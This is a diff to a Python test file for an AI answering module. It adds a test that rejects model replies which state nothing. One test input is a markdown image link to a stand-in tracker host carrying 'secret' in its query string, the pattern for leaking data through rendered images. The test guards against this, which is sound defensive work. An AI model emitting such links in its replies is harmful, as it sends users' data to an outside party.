@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import pytest
 
-from assistant.answering import INSTEAD, NO_MODEL, NOT_COVERED, Assistant
+from assistant.answering import INSTEAD, NO_MODEL, NOT_COVERED, STATED_NOTHING, Assistant
 from assistant.answers import Answer, Finished, Piece, Status, StepStarted, Turn, Verdict
 from assistant.models import Models
 from assistant.render import answer_json
@@ -160,6 +160,22 @@ def test_the_model_may_answer_a_part(chat_model: ModelServer) -> None:
     assert answer.status is Status.PARTIAL
     assert len(answer.claims) == 1
     assert answer.text == said
+
+
+@pytest.mark.parametrize(
+    ("written", "shown", "notice"),
+    [
+        ("The answer is:", "The answer is:", STATED_NOTHING),
+        ("![](http://tracker.example/?q=secret)", STATED_NOTHING, ""),
+    ],
+)
+def test_words_that_state_nothing_are_no_answer(
+    chat_model: ModelServer, written: str, shown: str, notice: str
+) -> None:
+    chat_model.script(Reply((written,)))
+    _, answer = run(with_model())
+    assert answer.status is Status.ERROR_MODEL
+    assert (answer.text, answer.notice, answer.claims) == (shown, notice, ())
 
 
 def test_the_mode_decides_for_one_question(chat_model: ModelServer) -> None:
